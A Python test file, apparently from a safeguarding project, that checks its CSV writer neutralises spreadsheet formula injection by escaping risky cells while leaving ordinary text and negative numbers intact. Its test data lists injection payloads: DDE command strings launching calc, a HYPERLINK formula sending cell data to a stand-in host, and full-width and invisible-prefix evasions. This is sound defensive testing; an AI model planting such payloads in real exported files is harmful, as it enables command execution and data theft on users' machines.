"""What people are given as CSV opens as text: no payload becomes a formula, and numbers stay numbers."""

from __future__ import annotations

import csv
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from safeguarding.evidence import spreadsheets
from safeguarding.evidence.feeds.reading import Layout, Reading, Rejection
from safeguarding.evidence.tables import EVENTS

FORMULAE = ["=1+1", '=HYPERLINK("http://x/?a="&A1,"see")', "=cmd|'/C calc'!A0", "+1+1", "+447700900123", "-1+1", "-2+3+cmd|'/C calc'!A0",
            "@SUM(1,1)", "@A1", "|calc", "%0A=1+1", "-cmd|' /C notepad'!A1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "-A1", "--1", "-1-1"]  # fmt: skip
BEFORE = [
    "",
    " ",
    "   ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\ufeff",
    "\u200b",
    "\u00a0",
    "\u200e",
    "\x00",
    "\x0b",
    '"',
    "'",
    ";",
    ",",
]
FULL_WIDTH = [
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹢1",
    "﹣1+1",
    "﹦1",
    "−1+1",
    "｜calc",
    "％1",
    " ＝1+1",
    "\ufeff＝1",
    "\u200b＝1",
]
PAYLOADS = [before + "=1+1" for before in BEFORE] + [before + "@A1" for before in BEFORE] + FORMULAE + FULL_WIDTH
PAYLOADS += ["\tname", "\rname", "\nname"]
FINE = ["", " ", "Kay Harlow", "1 Thistle Way", "01/02/2026", "a=b", "kay@example.org", "2-3", "O'Brien", "12%", "-12", "-12.50",
        "-1,234.5", "0", "é=", "naïve"]  # fmt: skip


def test_there_are_at_least_sixty_payloads():
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_is_a_formula_in_the_file_that_people_open(payload, tmp_path):
    spreadsheets.write(tmp_path / "a.csv", ["what", payload], [["x", payload], [payload, 1]])
    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    assert [row for row in rows if payload in row] == []
    assert [rows[0][1], rows[1][1], rows[2][0]] == ["'" + payload] * 3


@pytest.mark.parametrize("text", FINE)
def test_ordinary_words_and_negative_numbers_stay_as_they_are(text):
    assert spreadsheets.harmless(text) == text


@given(st.text(max_size=12))
def test_text_is_left_alone_or_has_one_apostrophe_before_it(text):
    assert spreadsheets.harmless(text) in (text, "'" + text)


@given(st.sampled_from("=+@|%"), st.text(max_size=6))
def test_whatever_follows_a_sign_it_never_begins_a_cell(sign, rest):
    assert spreadsheets.harmless(sign + rest).startswith("'")


def test_numbers_are_written_as_numbers_and_nothing_as_an_empty_cell(tmp_path):
    spreadsheets.write(tmp_path / "a.csv", ["a", "b", "c", "d"], [[-1, -2.5, Decimal("-3.10"), None]])
    lines = (tmp_path / "a.csv").read_bytes().decode("utf-8-sig").split("\r\n")
    assert lines[1].replace('""', "") == "-1,-2.5,-3.10,"


def test_a_quotation_mark_in_a_payload_does_not_end_the_cell(tmp_path):
    spreadsheets.write(tmp_path / "a.csv", ["a"], [['x"\r\n=1+1,"']])
    assert (tmp_path / "a.csv").read_bytes().decode("utf-8-sig") == '"a"\r\n"x""\r\n=1+1,"""\r\n'


def test_the_rejected_rows_of_a_partner_are_written_so(tmp_path):
    rejected = (Rejection(2, "=1+1", "＝cmd|' /C calc'!A0", "Not a date."), Rejection(3, None, "-12.5", "=no"))
    reading = Reading("police", EVENTS.empty(), rejected, 2, (), Layout("utf-8", ",", 1, {}), "0")
    reading.write_rejections(tmp_path / "r.csv")
    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    assert rows[1:] == [["2", "'=1+1", "'＝cmd|' /C calc'!A0", "Not a date."], ["3", "", "-12.5", "'=no"]]
